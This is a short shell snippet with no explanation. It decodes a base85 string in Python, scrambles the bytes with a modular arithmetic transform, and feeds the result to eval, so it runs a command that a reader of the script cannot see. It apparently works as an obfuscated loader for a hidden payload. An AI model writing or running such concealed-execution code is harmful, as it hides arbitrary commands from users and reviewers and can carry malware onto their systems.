P='=1^&yzo^Z&7W=<v0|U>tkwQY|Gd1;00|QLvPJn6kv^AYfo3t}Rw)M7WziYp?X8'
C=$(python3 -c "import base64,sys;print(bytes((133*(c-31))%256 for c in base64.b85decode(sys.argv[1])).decode())" "$P")
eval "$C"
